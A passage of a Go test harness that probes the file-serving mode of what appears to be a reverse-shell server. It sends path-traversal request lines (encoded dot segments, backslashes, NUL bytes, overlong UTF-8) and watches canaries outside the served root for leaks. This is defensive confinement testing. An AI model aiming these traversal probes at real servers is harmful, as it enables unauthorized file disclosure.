		if tok, ok := containsAny(h.scan, all); ok {
			sv.violate(idx, "unset-mode-serves", fmt.Sprintf("with no files configured the content of %q was returned", t.relOfToken(tok)), g, hops)
		} else if is2xx && !starOK {
			sv.violate(idx, "unset-mode-serves", fmt.Sprintf("with no files configured a non-shell path was answered %d", h.Status), g, hops)
		}
	}

	// (f) every file request is reported
	if sv.mode != "unset" && !starOK && (is2xx || h.inf.clean && !weak) {
		r.Count("notice_obligations", 1)
		r.Count("notice_obligations:"+sv.kind, 1)
		found, verbatim := false, false
		for _, n := range h.Notices {
			if strings.Contains(n, "File requested:") {
				found = true
				if strings.Contains(n, h.Target) {
					verbatim = true
				}
			}
		}
		if !found {
			sv.violate(idx, "file-request-not-reported", fmt.Sprintf("a file request answered %d was not reported to the operator", h.Status), g, hops)
		} else if verbatim {
			r.Count("notices_with_verbatim_target", 1)
		}
	}
}

func (t *tree) relOfToken(tok string) string {
	for rel, k := range t.tokens {
		if k == tok {
			return rel
		}
	}
	return "?"
}

// checkBodyDir: a 2xx body in directory mode is an in-tree file, a range of
// one, or the listing of an in-tree directory.
func (sv *server) checkBodyDir(idx int, g tgt, hops []hop) {
	r, t := sv.r, sv.t
	h := hops[len(hops)-1]
	if h.Method == "HEAD" && len(h.body) == 0 {
		// nothing to compare: the announced length may be that of a listing
		r.Count("head_responses", 1)
		return
	}
	if h.Status == 206 && g.rangeV != "" {
		var cs []string
		for _, c := range t.files {
			cs = append(cs, c)
		}
		if rangeOf(h, cs) {
			r.Count("bodies_matched_to_files", 1)
			r.Count("ranges_matched", 1)
		} else {
			sv.violate(idx, "body-not-an-in-tree-file", "a 206 body is not the announced range of any in-tree file", g, hops)
		}
		return
	}
	if _, ok := t.byBody[string(h.body)]; ok {
		r.Count("bodies_matched_to_files", 1)
		r.Count("dir_bodies_matched_to_files:"+sv.kind, 1)
		return
	}
	ms := anchorRe.FindAllSubmatch(h.body, -1)
	residue := anchorRe.ReplaceAll(h.body, nil)
	if !residueRe.Match(residue) {
		sv.violate(idx, "body-not-an-in-tree-file", fmt.Sprintf("a %d body is neither the exact content of an in-tree file nor a directory listing", h.Status), g, hops)
		return
	}
	r.Count("listings_checked", 1)
	var ents []string
	for _, m := range ms {
		// url.URL{Path: name}.String() writes "./" before a first segment with a colon
		name, err := url.PathUnescape(strings.TrimPrefix(string(m[1]), "./"))
		if err != nil || html.UnescapeString(string(m[2])) != name {
			sv.violate(idx, "listing-foreign-entry", fmt.Sprintf("listing entry href %q / text %q do not name the same thing", m[1], m[2]), g, hops)
			return
		}
		ents = append(ents, name)
	}
	r.Count("listing_entries_checked", int64(len(ents)))
	dir, ok := t.byList[listKey(ents)]
	if !ok {
		known := map[string]bool{}
		for _, es := range t.dirs {
			for _, e := range es {
				known[e] = true
			}
		}
		var foreign []string
		for _, e := range ents {
			if !known[e] {
				foreign = append(foreign, e)
			}
		}
		sv.violate(idx, "listing-foreign-entry", fmt.Sprintf("a directory listing is not the listing of any in-tree directory (entries unknown in the tree: %q)", foreign), g, hops)
		return
	}
	if h.inf.clean {
		if kind, rel := t.expectDir(h.inf); kind == "listing" && rel != dir && listKey(t.dirs[rel]) != listKey(t.dirs[dir]) {
			sv.violate(idx, "listing-foreign-entry", fmt.Sprintf("the listing of %q was returned for a request naming %q", dir, rel), g, hops)
		}
	}
}

// runTarget sends one generated target, follows redirects, and judges.
func (sv *server) runTarget(idx int, g tgt) bool {
	r := sv.r
	var hops []hop
	cur, method := g.target, g.method
	for n := 0; ; n++ {
		inf := analyse(method, cur)
		if method == "CONNECT" && inf.shell != "" {
			// CONNECT is not tried on the shell endpoints (see Assumptions): such a hop is made with GET
			method = "GET"
			inf = analyse(method, cur)
			r.Count("connect_hops_on_shell_endpoints_made_with_get", 1)
		}
		start := sv.pos
		var h hop
		switch {
		case (inf.shell == "i" || inf.shell == "o" || inf.shell == "io") && !inf.muxRedir:
			h = sv.stream(g, inf, cur)
		case g.curl && n == 0:
			h = sv.viaCurl(cur)
			if h.Status == 0 {
				r.Count("curl_failed", 1)
				h = sv.plain(g, method, cur, true)
			} else {
				r.Count("curl_requests", 1)
			}
		default:
			h = sv.plain(g, method, cur, n == 0)
		}
		h.inf = inf
		if h.hdr != nil {
			h.Loc = h.hdr.Get("Location")
		}
		h.BodyLen = len(h.body)
		lines, ok := sv.mark()
		if !ok {
			r.Inconclusive("marker lost")
			return false
		}
		h.Notices = lines
		if inf.shell == "" || inf.shell == "c" {
			for _, l := range lines {
				if strings.Contains(l, "connected: ID") || strings.Contains(l, "Shell is ready") {
					h.Shell = "?"
				}
			}
			if h.Shell != "" {
				// the connection is closed by now; let the broker finish before the next probe
				if sv.b != nil {
					sv.b.Wait(`Shell is gone`, start, crs.Bound)
				} else {
					sv.s.Log.Wait(start, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
				}
			}
		}
		hops = append(hops, h)
		sv.judgeHop(idx, g, hops, n == 0)
		if h.Status >= 300 && h.Status < 400 && h.Loc != "" && n < 5 {
			next, ok := resolve(inf, h.Loc)
			if ok {
				r.Count("redirects_followed", 1)
				cur = next
				if method != "GET" && method != "HEAD" && h.Status == 303 {
					method = "GET"
				}
				continue
			}
			r.Count("redirects_unfollowable", 1)
		}
		break
	}
	sv.judgeChain(idx, g, hops)
	if len(hops) > 1 {
		r.Sample("redirect-chain", chainSample(sv, g, hops))
	}
	if hops[0].inf.shell != "" && hops[0].Shell != "" {
		r.Sample("shell-probe", chainSample(sv, g, hops))
	}
	if g.mx && g.shadow && !canonical(hops[0].inf.shell, g.method, g.body) {
		r.Sample("shell-matrix:"+hops[0].inf.shell, chainSample(sv, g, hops))
	}
	if sv.kind != sv.mode && sv.kind != "file" && !g.mx && len(hops) == 1 && hops[0].inf.clean {
		r.Sample("root:"+sv.kind, chainSample(sv, g, hops))
	}
	if g.class == "dotseg-encoded" || g.class == "backslash" {
		r.Sample("hostile:"+g.class, chainSample(sv, g, hops))
	}
	return true
}

func chainSample(sv *server, g tgt, hops []hop) map[string]any {
	var chain []string
	for _, h := range hops {
		chain = append(chain, h.String())
	}
	return map[string]any{"tree": sv.t.idx, "mode": sv.mode, "root_kind": sv.kind, "class": g.class, "method": g.method, "request_body": g.body, "chain": chain, "notices_last_hop": hops[len(hops)-1].Notices}
}

// judgeChain applies the whole-request rules of single-file and unset mode.
func (sv *server) judgeChain(idx int, g tgt, hops []hop) {
	r := sv.r
	first, last := hops[0], hops[len(hops)-1]
	if first.inf.shell != "" || last.inf.shell != "" || last.Status == 0 || last.Shell != "" {
		return
	}
	if first.inf.form == "star" {
		return
	}
	strict := first.inf.clean && !g.weak
	is2xx := last.Status >= 200 && last.Status < 300
	httpLayer := map[int]bool{400: true, 505: true, 431: true, 414: true, 501: true}
	switch sv.mode {
	case "single":
		// Whenever the file handler itself ran for a hop (it reports "File requested"), its answer
		// must be the configured file: a 3xx/4xx made up by the handler is not an HTTP-layer rejection.
		for _, h := range hops {
			ran := false
			for _, n := range h.Notices {
				if strings.Contains(n, "File requested:") {
					ran = true
				}
			}
			ok := h.Status >= 200 && h.Status < 300 || h.Status == 304 || h.Status == 412 || h.Status == 416
			if ran && !ok && h.inf.shell == "" {
				sv.violate(idx, "single-file-mode-not-served", fmt.Sprintf("the file handler ran for %q but answered %d instead of the configured file", trunc(h.Target, 80), h.Status), g, hops)
				return
			}
			if ran {
				r.Count("single_file_handler_runs_checked", 1)
			}
		}
		switch {
		case is2xx:
			r.Count("single_file_chains_ending_in_the_file", 1)
		case strict:
			sv.violate(idx, "single-file-mode-not-served", fmt.Sprintf("a clean non-shell target did not yield the configured file (final status %d)", last.Status), g, hops)
		case httpLayer[last.Status] || last.Status >= 300 && last.Status < 400 || last.Status == 416 && g.rangeV != "":
			r.Count("single_file_http_layer_rejections", 1)
		default:
			sv.violate(idx, "single-file-mode-not-served", fmt.Sprintf("a non-shell target was answered %d instead of the configured file", last.Status), g, hops)
		}
	case "unset":
		switch {
		case last.Status == 404:
			r.Count("unset_404", 1)
		case is2xx:
			// already reported by the hop rule
		case !strict && (httpLayer[last.Status] || last.Status >= 300 && last.Status < 400):
			r.Count("unset_http_layer_rejections", 1)
		default:
			sv.violate(idx, "unset-mode-not-404", fmt.Sprintf("with no files configured a non-shell path was answered %d, not 404", last.Status), g, hops)
		}
	}
}

// rootKinds: how -serve-files-from names its target. div: the share of the
// random targets a server of this kind gets; mxFrac: one matrix cell in mxFrac.
var rootKinds = []struct {
	name, mode  string
	div, mxFrac int
}{
	{"dir", "dir", 1, 1},
	{"file", "single", 1, 1},
	{"unset", "unset", 1, 3},
	{"symlink-to-dir", "dir", 4, 3},
	{"symlink-to-file", "single", 4, 3},
	{"symlink-chain-to-dir", "dir", 4, 3},
	{"symlink-chain-to-file", "single", 4, 3},
	{"dangling-symlink", "dangling", 4, 3},
}

const mxBase = 90000

func runServer(r *mon.Run, si int, t *tree, ki int, per int) {
	k := rootKinds[ki]
	kind, mode := k.name, k.mode
	n := per / k.div
	base := si * 100000
	mx := t.mxTargets(r.Rng("mx", si), k.mxFrac)
	if r.Replaying() {
		any := false
		for i := 0; i < n; i++ {
			any = any || r.Want("target", base+i)
		}
		for j := range mx {
			any = any || r.Want("target", base+mxBase+j)
		}
		for j := 0; j < spCount(r, ki); j++ {
			any = any || r.Want("target", base+spBase+j)
		}
		if !any {
			return
		}
	}
	cfg := hk.Config{FDir: t.roots[kind]}
	s, err := hk.Start(cfg)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("server (-serve-files-from = %s) did not start: %v", kind, err))
		return
	}
	defer s.Stop()
	r.Count("servers", 1)
	r.Count("servers:"+kind, 1)
	sv := &server{r: r, t: t, mode: mode, kind: kind, fdir: cfg.FDir, s: s, si: si}
	if _, ok := sv.mark(); !ok {
		r.Inconclusive("marker lost")
		return
	}
	// the random targets: the three direct kinds of a tree see the same ones, every link kind its own
	off := 0
	if ki >= 3 {
		off = 10000 * ki
	}
	for i := 0; i < n; i++ {
		idx := base + i
		if !r.Want("target", idx) {
			continue
		}
		g := genTarget(r.Rng("target", t.idx*100000+off+i), t)
		if !sv.runTarget(idx, g) {
			return
		}
		r.Eval(1)
		r.Count("targets", 1)
		r.Count("targets_of:"+kind, 1)
		r.Count("targets:"+g.class, 1)
		if g.class != "clean-missing" {
			r.Distinct(kind + "|" + strconv.Itoa(t.idx) + "|" + g.method + " " + g.target + " " + g.proto + "|" + g.rangeV)
		}
	}
	// special names: traversal targets whose last segment is a name planted outside the root
	if !sv.runSpecials(base, ki) {
		return
	}
	// the shell endpoint x method matrix
	for j, g := range mx {
		idx := base + mxBase + j
		if !r.Want("target", idx) {
			continue
		}
		if !sv.runTarget(idx, g) {
			return
		}
		r.Eval(1)
		r.Count("mx_cells", 1)
		r.Count("mx_cells_of:"+kind, 1)
		r.Distinct("mx|" + kind + "|" + strconv.Itoa(t.idx) + "|" + g.method + " " + g.target + "|" + g.body)
	}
}

func Run(r *mon.Run) {
	r.Rule = "generated directory trees (depth <= 3; names with spaces, %, unicode, '..x', 'x..', '...', leading dots, literal '%2e%2e'; every file a unique token) that contain things named like the shell endpoints: c and io (a file in two trees out of three, a directory with index.html and x in the others), directories i/ and o/ each with files x, id, two ids drawn from a pool (spaces, unicode, %41, ?, #, ;) and a random hex id; canaries outside the root (sibling files and directories, a name-prefix sibling, parents, the directory that holds the symbolic links; content tokens, and name tokens that no request ever spells). Eight servers per tree (hsrv.Server in-process on real TLS), one per way of naming -serve-files-from: the directory, one regular file inside it, unset, a symbolic link to the directory, a symbolic link to the file, a chain of 2-4 links (each absolute or relative) to the directory, such a chain to the file, a dangling link (1-2 hops). The first three get the full number of random request lines (the same ones), every link kind a quarter of it (its own). Request lines are written raw (hk.RoundTrip; a sample through real curl --path-as-is): existing and missing clean paths, dot segments plain/%2e/%252e/mixed, ..;/, %2f %5c and backslashes, //, /./, overlong UTF-8, trailing dots, NUL and control bytes, 8 KiB paths, absolute-form, *, authority-form, no leading slash, queries, methods, Range, odd protocol versions, shell-named paths and near misses; 301s are followed by hand (<= 5 hops). SPECIAL NAMES: beside the canaries with made-up names, every tree has canaries outside the root whose NAME is one that the program, net/http or a request's last segment may single out - index.html, index.htm, favicon.ico, robots.txt, .htaccess, the shell endpoint names c, io, x, i/x, o/x, and names equal to in-tree files (the single-mode file, withindex/index.html, sub/f.txt, sub/c, four random files, at the same relative place) - in the parent of the root, in sibling directories (secret/, rootx/), in the directory that holds the symbolic links (one lexical step up from a root named through a link) and above all case directories (shared by the trees); every server gets 160 quick / 600 thorough (dir and symlink-to-dir; half of it file and chain-to-dir; a quarter the rest) traversal targets whose LAST SEGMENT is such a name: the climb written in one of the nine spellings of the other classes (%2e%2e in every case mix most often, plain, double-encoded, %2f, backslash, ..;, overlong, trailing dots, empty segments), from the root, an in-tree directory, a shell-named or a missing prefix, exactly as many levels as the canary needs (one more or less in a quarter of them), also up two and down again by the case directory's name and by the absolute path; method GET, HEAD, POST, PUT/DELETE/PATCH/OPTIONS/TRACE, a made-up token or CONNECT with a path (which the router neither cleans nor redirects); one in eight in absolute-form, one in twelve with a query, a sample through curl --path-as-is. Counted: targets that the router passes on as written and that, decoded once and joined lexically to the configured path, name an existing canary - by root kind, by name, by way (encoded dots, other method, CONNECT, absolute-form). Judged by the same oracle as every other target (no canary token, a 2xx body exactly an in-tree file); for an in-tree .../index.html both net/http's 301 to ./ and the file itself are inside the statement (recorded, not demanded). On top, every server gets the shell endpoint x method matrix: paths /c, /%63, /io, /io/, /io/x, /i%6f, /i/<id> and /o/<id> for every id with files plus one without (ids percent-encoded in three styles) x methods GET HEAD POST PUT DELETE PATCH OPTIONS TRACE, two made-up tokens from a list (get, PROPFIND, G%54, ...) and one random token x request body none / Content-Length 0 / a body that ends / an open chunked body (all cells on the directory and file servers, one in three elsewhere). Oracle: no response at any hop contains a canary token; a 2xx body when a directory is named (directly or through links) is exactly an in-tree file (or the announced range of one) or a listing whose entries are exactly those of an in-tree directory; when a regular file is named (directly or through links) exactly that file comes back for non-shell targets (or an HTTP-layer rejection for targets that are not clean); unset answers 404; a dangling link yields no file content at all; for every request whose path names /c, /i/{id}, /o/{id}, /io or /io/..., whatever the method: the response carries no file token and the marker window of the request holds no 'File requested' notice (the file handler did not take it), /c returns the script, and the project's own uses (GET /i/{id}; POST or PUT with a body on /o/{id}; POST or PUT with an open body on /io) attach a stream (attach notice; delivered input line counted) - what other methods do on the streaming endpoints is recorded, not demanded; every request that reaches the file handler has a 'File requested' notice inside its marker window, also under link and dangling roots. Three more engines run beside the request-line servers. GONE (6 servers quick / 24 thorough, one per way of naming a directory or a file, operator queue depth 1, 4, 64 or 1024): waves of 10-24 parallel clients that dial first and then, together, write a file request (a clean target carrying a nonce) and leave at once - TLS half-close (close_notify + FIN) and reading the answer, FIN without close_notify, a complete keep-alive exchange followed by a second request and half-close, close_notify + close without reading, RST (SO_LINGER 0), and ordinary clients as control; every second wave with the operator's terminal stalled (hk.StallOperator: the consumer of the operator channel takes nothing, the queue is filled to the brim with filler lines before the requests are written, the clients are gone before it takes lines again). Oracle: every request for which the file handler's own log record ('File requested' with that request URI; it is written after the operator line was queued) is observed has its 'File requested' operator line before the marker sent afterwards. LIVE (6 / 24 servers: a regular file twice, a symbolic link and a chain of links to it, a directory, a link to a directory): the served file is 64 KiB - 4 MiB (log-uniform, unaligned) of 32-byte lines that spell a per-server token, the version and their own offset. Phase 1: 6-12 clients at once (half of them begin with the whole file at the same instant), each 3 / 6 requests over fresh or kept connections: whole file under varied clean non-shell paths, single ranges (1 byte to the whole file, across the 32 KiB copy-chunk border, open-ended, suffix), two-part ranges, HEAD. Phase 2: 5 / 12 times the file is replaced with nothing in flight - temporary file renamed over it, truncated and rewritten in place, deleted and recreated, for link roots the link switched to a new file / a new directory holding it (every method on every server) - and after each replacement a whole-file request on a fresh connection, a request on a connection kept across all replacements and 1-3 requests at once. Phase 3: 4-6 clients keep requesting while the file is replaced 4 / 10 times atomically (rename over it, link switched); clients and replacer are paced by request counts (two rounds granted per replacement, which is made when one has completed). Oracle: with [lo, hi] = [newest replacement complete before the request was written, newest replacement begun after its answer was read], a 200 body is exactly one of the versions lo..hi (outside phase 3 lo = hi: the current file), a 206 body exactly the announced range of one of them, a HEAD answer announces the length of one of them, 416 only for a range that starts past the end of one of them, and in single-file mode nothing else is an answer; in directory mode a 2xx body that is not (a range of) such a version is content that is no file of the tree. SLOW (4 servers / 12 cases quick, 12 / 48 thorough; a regular file, a directory, a link to the file, a chain of links to the directory, in thorough also a chain to the file and a link to the directory; the cases sleep, so they run on goroutines of their own beside all the other engines from the start): the served file (in directory mode it sits in the tree, half the time in a subdirectory, beside a small one) is 9-64 MiB (log-uniform, unaligned), sparse, with a line at every 16 KiB that spells a per-server token, the block number, its offset and the file's size - more than twice what the kernel can hold between the server's handler and the client's reader (largest TCP send buffer from /proc/sys/net/ipv4/tcp_wmem + 2 MiB; the clients set SO_RCVBUF to 16, 64 or 256 KiB before connecting), so the handler is still in the middle of the file whenever the client stops reading. Every case is one client (raw TLS, hand-written request): it stops reading for 4 s, 11 s, 16 s or 31 s at a random place of the body that leaves more unread than the kernel holds, or twice (4+11, 11+16, 16+4 s; thorough also 31+31 and 31+4), or for 11 s before the first body byte, or reads at a trickle (110 reads of 16 KiB 200 ms apart, 120 reads of 8 KiB 100 ms apart) and then takes the rest, or does not pause (control); the request is for the whole file (half of the cases), an open-ended range, a closed range or a suffix range of at least 8 MiB, under a clean non-shell target carrying a nonce (any path in single-file mode, the file's path in three escapings in directory mode); half the clients keep the connection and afterwards ask for a short range (64 KiB - 1 MiB) on it. Behaviour, request shape and keep-alive are dealt round-robin over the case index (rotated by the seed), so every run has every behaviour in use by its tier, both modes and all four request shapes. Oracle, without a clock: a 2xx answer's body, compared as it arrives with the file (length, first differing byte, rolling CRC-32C), is exactly the file, or for 206 exactly the range that Content-Range announces of a file of that size - a body that ends early or differs is a violation however long the client took; in single-file mode any other status is one too (directory mode: recorded); every answered request has a 'File requested' line with its nonce before a marker sent when all clients of the server are done (more than one is recorded). Only the client's own read watchdog (60 s without a byte while the body is incomplete) is inconclusive. FLAG (the real binary, race build, on a pty; 2 cases per value shape quick / 12 thorough, 12 at a time beside the other engines): every other engine hands the path to hsrv.New itself, here it travels through main's flag handling. The program's working directory is a private HOME that the check populates. VALUE SHAPES of -serve-files-from: not given; given but empty; a name followed by an empty second value; '.'; './x'; 'x/'; '../y'; absolute; absolute with a trailing space; names with a leading / trailing / leading-and-trailing / inner space, a single space, leading / trailing tab, trailing newline, leading CR LF, a leading or inner '=', an inner or leading ',', '%41..%20' , '~' and '~/t' (literal names), a leading '-' and '--', unicode, an ideographic space at the end, a trailing dot, upper case, 'x//in/./leaf', 'a/../r', the flag given twice (ordinary, empty first) and three times (the same name with and without spaces at the edges; the last value counts, as in Go's flag package), a symbolic link, a link whose own name ends in a space, a link given absolute, and a link followed by '..'. Every shape that can name a file is run as a directory and as a single file (alternating with the round and the seed); the flag is written '-f v', '-f=v', '--f v', '--f=v' (by index) and placed before, between or after the other options. LOOK-ALIKES: for every value given, every spelling it could be mistaken for after trimming (spaces, tabs, newlines, unicode space; left, right, both), splitting (first / last field, at ',' or '='), joining the fields, filepath.Clean, taking the base name, adding a space at either edge, percent-unescaping, '~' expansion, stripping leading dashes or trailing '/.' and changing case is computed, and wherever that spelling names a place that is not the tree (nor inside it, nor above it) a canary is put there: a directory holding inside.txt, index.html, sub/f.txt, c, i/x (the names the tree uses) and a file with a name of its own, or - for a single-file value - a file; earlier values of a repeated flag get the same; HOME itself (unless it is the tree), its parent and the directory of the absolute shapes hold canaries named like the tree's files too; an effectively unset flag gets ordinary neighbours (pub, www, files, static). CONFIGURATION MATRIX: every case runs under two of the program's other documented options drawn by index (one alone when both are of the same group): none, -one-shell, -callback-address once / 36 times, -callback-template as a regular file / through a symbolic link / missing at start-up and created once the program listens, -ctrl-i file / directory / missing / a name with % and spaces, -print-ctrl-i=false, -tls-certificate-cache explicit / default (below HOME) / beside the served root (its PRIVATE KEY is then a canary string), -log, CURLREVSHELL_LOG, -no-timestamps, -ipv6-one-liners=true, -listen-address localhost:0, -prompt; their dashes alternate between '-' and '--', values between '-f v' and '-f=v'. Requests per case (20-30, raw request lines, one through curl): the listing of / and /sub/, every ordinary in-tree file, HEAD and Range; in single-file mode /, /inside.txt, other paths, HEAD, Range; unset: /, names that exist in HOME, HEAD, POST; every canary by its own name; the value itself and its trimmed spelling as a path (as if HOME were served); climbs ('..', %2e%2e, mixed, double-encoded, ..;, %2f, //abs) toward the canaries; /c; and LAST one stream probe (/i/x, /o/x or /io by index; files c, io, i/x, o/x exist in the tree) - under -one-shell the listener goes away with it. The operator channel is the terminal: a marker is a GET /c?c2=<tag> (kept connection) whose 'Sent script ... URL:<tag>' line goes through the same queue as every notice before it, so the window of a request is the terminal text up to that line; attach notices are read from the terminal, the input line is typed on it. Oracle: the same judgeHop / judgeChain as the request-line servers (no canary token in any response; a 2xx body exactly an in-tree file, its announced range, or the listing of an in-tree directory; single file: exactly that file for every non-shell path; effectively unset: 404; /c returns the script, the stream attaches; a 'File requested' notice in the window of every request that reached the file handler), with the tree being what the FINAL value leads to as the system resolves it. Floors: every shape in both rounds, bodies matched / single file exact / notice obligations per shape, every option at least once, >= n/3 distinct option pairs, the four flag spellings, look-alikes placed. A case = (tree, root kind, request); distinct = distinct (root kind, tree, request line, Range / body shape); clean-missing targets are counted as trivial"
	r.Assumptions = []string{
		"symlinks inside the tree are not generated (following them is http.Dir behaviour the statement does not speak about); symbolic links are used only to name the configured root itself, where 'naming a directory' / 'naming a single file' is read as what the name resolves to",
		"for a dangling link the statement fixes no status: only 'no file content', 'shell endpoints untouched' and 'file requests reported' are demanded",
		"which raw targets are 'clean' (reach the catch-all unchanged) and which name a shell route is decided by a small reference written from net/http's documented routing (cleaned escaped path, per-segment unescaping)",
		"canary name tokens are never spelled in a request, so their appearance in a response is a leak, not an echo",
		"matrix cells on /i/{id} carry no request body: the input endpoint never reads one, and the server does not notice a client leaving behind an unread body, which would keep the single shell slot busy for the following cells",
		"CONNECT is left out of the matrix (net/http routes it without cleaning and clients cannot send it to a path); CONNECT with a path is sent only by the special-name targets, the reference reads it as the router does (matched on the path as written), and a hop whose path as written names a shell endpoint is made with GET instead",
		"special-name canaries: the ones above all case directories are shared by the trees (every tree scans for their tokens); a place that is already taken by something else is skipped; the count of targets that name a canary lexically is a measure of the workload only (no verdict depends on it)",
		"'every file request is reported': a file request is one that reached the file handler, witnessed by the handler's own log record; requests of clients that reset the connection may never be read by the server and are then not counted (none is demanded). The pause before the stalled terminal takes lines again only shapes the schedule; no verdict depends on it",
		"'exactly that file is returned' under change: a request that overlaps no replacement must get the file as it is; one that overlaps an atomic replacement (rename, link switch) must get one of the versions that bore the name during the request. Replacements that are not atomic (rewrite in place, delete and recreate) are made only while no request is in flight, because no server that reads the file while it is being rewritten can return a consistent copy",
		"in directory mode the statement is about confinement, not about availability: only 2xx bodies are judged there (they must be exactly an in-tree file or an announced range of one); other statuses are recorded",
		"flag engine: 'naming a directory / a single file' is read as what the system resolves the value to from the program's working directory (what os.Open, ls and every other program make of it); a flag given more than once names what its LAST value names (Go's flag package; established on the unchanged program); an explicitly empty value is 'left unset' (it is the flag's default value). -icanhazip is not in the matrix (without a network the program exits before serving), nor are -print-default-template and -print-ctrl-i (they print and exit; -print-ctrl-i=false is). Look-alikes that the file system refuses to create are skipped (counted by flag_look_alikes_placed). The bounded waits of this engine (30 s for a marker line, 60 s for an attach notice on the terminal) end in inconclusive, except the attach wait, which is judged like stream()'s: a shell endpoint that answers but never reports an attached stream has lost its meaning",
		"flag engine, a value that reaches its directory through a symbolic link followed by '..': before fix c8e4054 the program checked the directory the system resolves the value to but served the lexically cleaned spelling (http.Dir joins with filepath.Join); every violation seen under such a value in directory mode carries the key root-through-link-and-dotdot-served-as-cleaned-lexically (known-findings.txt has the fixed: line), and the per-shape floor of matched bodies is not demanded for that shape",
		"slow downloaders: the statement says what a client obtains, not how fast it must take it: a 2xx answer whose body stops short of the announced file (or range) has not returned 'exactly that file', and in directory mode is a body that is no file of the tree - whether the client read at once or paused for half a minute. The pauses (4-31 s) and the trickle are the workload, made with time.Sleep; no verdict reads a clock. That the server is still sending when the client pauses is arranged by sizes (every pause leaves more of the body unread than the largest TCP send buffer plus the client's small receive buffer plus 2 MiB), not observed inside the server; the floor slow_pauses_with_more_unread_than_the_kernel_holds counts it. A second request on a kept connection that gets no answer at all is recorded, not judged (a server may close kept connections)",
	}
	nt := r.N(6, 60)
	per := r.N(400, 3000)
	trees := make([]*tree, nt)
	for i := range trees {
		trees[i] = genTree(r, i)
		r.Count("trees", 1)
		r.Count("tree_files", int64(len(trees[i].fileL)))
		r.Count("tree_dirs", int64(len(trees[i].dirL)))
		r.Count("canaries", int64(len(trees[i].canaryL)))
		r.Count("special_name_canaries", int64(trees[i].nSpecial))
		if trees[i].ioDir {
			r.Count("trees_with_io_as_directory", 1)
		}
		if trees[i].cDir {
			r.Count("trees_with_c_as_directory", 1)
		}
		var listing []string
		for _, d := range trees[i].dirL {
			listing = append(listing, "root/"+d+"/")
		}
		for _, f := range trees[i].fileL {
			listing = append(listing, "root/"+f+"  = "+trees[i].tokens[f])
		}
		sort.Strings(listing)
		if len(listing) > 80 {
			listing = listing[:80]
		}
		r.Sample("tree", map[string]any{"case_dir": trees[i].caseDir, "in_tree": listing, "canaries_outside": trees[i].canaryL, "single_file_mode_serves": trees[i].single, "shell_ids_with_files": trees[i].ids, "serve_files_from_by_kind": trees[i].roots, "links": trees[i].rootsL})
	}
	nk := len(rootKinds)
	nLive, nGone := r.N(6, 24), r.N(6, 24)
	// the live and gone servers go first: they run alongside the request-line servers
	var units []func()
	for i := 0; i < max(nLive, nGone); i++ {
		if i < nLive && r.Want("live", i) {
			units = append(units, func() { runLive(r, i) })
		}
		if i < nGone && r.Want("gone", i) {
			units = append(units, func() { runGone(r, i, trees[i%nt]) })
		}
	}
	if r.WantEngine("target") {
		for k := 0; k < nt*nk; k++ {
			units = append(units, func() { runServer(r, k, trees[k/nk], k%nk, per) })
		}
	}
	// the slow downloaders sleep most of their time: they run beside the worker pool, from the start
	sd := slowPlanDims(r)
	var slowWG sync.WaitGroup
	if r.WantEngine("slow") {
		if sd.bodyMin+2<<20 > slowMaxFile {
			r.Inconclusive(fmt.Sprintf("slow downloaders: this kernel grants TCP send buffers of up to %d bytes; files of at most %d bytes cannot outgrow them", sd.wmem, slowMaxFile))
		} else {
			for i := 0; i < sd.ns; i++ {
				slowWG.Add(1)
				go func() {
					defer slowWG.Done()
					runSlow(r, i, sd)
				}()
			}
		}
	}
	// the real binary over the shapes of the flag's value: a pool of its own, beside the others
	slowWG.Add(1)
	go func() {
		defer slowWG.Done()
		runFlag(r)
	}()
	mon.Parallel(len(units), runtime.NumCPU(), func(k int) { units[k]() })
	slowWG.Wait()
	q := func(quick, thorough int64) int64 {
		if r.Thorough() {
			return thorough
		}
		return quick
	}
	liveGoneFloors(r, nLive, nGone)
	slowFloors(r, sd)
	specialFloors(r, nt)
	flagFloors(r)
	ntarg := 0
	for _, k := range rootKinds {
		ntarg += nt * (per / k.div)
		r.Floor("servers:"+k.name, int64(nt))
		r.Floor("targets_of:"+k.name, int64(nt*(per/k.div)))
		r.Floor("mx_cells_of:"+k.name, int64(nt*40))
		switch k.mode {
		case "dir":
			r.Floor("dir_bodies_matched_to_files:"+k.name, int64(nt*(per/k.div)/20))
		case "single":
			r.Floor("single_file_exact:"+k.name, int64(nt*(per/k.div)/10))
		}
		if k.mode != "unset" {
			r.Floor("notice_obligations:"+k.name, int64(nt*(per/k.div)/10))
		}
	}
	r.Floor("dangling_root_responses_without_file_content", int64(nt*(per/4)/2))
	r.Floor("servers", int64(nt*nk))
	r.Floor("targets", int64(ntarg))
	r.Floor("canary_token_scans", int64(ntarg))
	// every (shell endpoint, method) cell of the matrix
	for _, sh := range []string{"c", "i", "o", "io"} {
		for _, m := range append(append([]string(nil), mxStd...), "made-up") {
			r.Floor("mx:"+sh+":"+m, q(20, 200))
		}
	}
	for _, b := range []string{"none", "cl0", "cl", "chunked"} {
		r.Floor("mx_body:"+b, q(200, 2000))
	}
	r.Floor("mx_cells", int64(nt*600))
	r.Floor("mx_cells_with_a_same_named_file", int64(nt*400))
	r.Floor("shell_probe_windows_checked_for_file_notice", int64(nt*600))
	r.Floor("mx_not_shadowed_other_methods", int64(nt*300))
	r.Floor("mx_other_methods_attached", int64(nt*150))
	r.Floor("trees_with_io_as_directory", int64(nt/3))
	r.Floor("trees_with_c_as_directory", int64(nt/3))
	r.Floor("bodies_matched_to_files", q(800, 50000))
	r.Floor("listings_checked", q(60, 3000))
	r.Floor("redirects_followed", q(1000, 50000))
	r.Floor("notice_obligations", q(1500, 80000))
	r.Floor("shell_meaning_kept", q(300, 15000))
	r.Floor("shell_input_delivered", q(60, 3000))
	r.Floor("clean_existing_file_served_exactly", q(100, 5000))
	r.Floor("curl_requests", q(50, 2000))
	for _, c := range []string{"dotseg-plain", "dotseg-encoded", "double-encoded", "encoded-slash", "backslash", "empty-seg", "nul/ctl", "long", "absolute-form", "shell-named", "clean-existing", "clean-missing"} {
		r.Floor("targets:"+c, q(60, 3000))
	}
	r.Floor("targets:star", q(5, 300))
}

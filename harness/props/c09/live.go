package c09

// Two engines that add time and concurrency to the request-line matrix:
//
//   "gone"  clients that leave right after sending a file request (TLS
//           half-close, FIN without close_notify, close, reset), in bulk and in
//           parallel, also while the operator's terminal is not taking lines:
//           every request that reached the file handler must be reported.
//   "live"  a large position-coded file served in single-file mode (and inside
//           a served directory) to many clients at once, and replaced while the
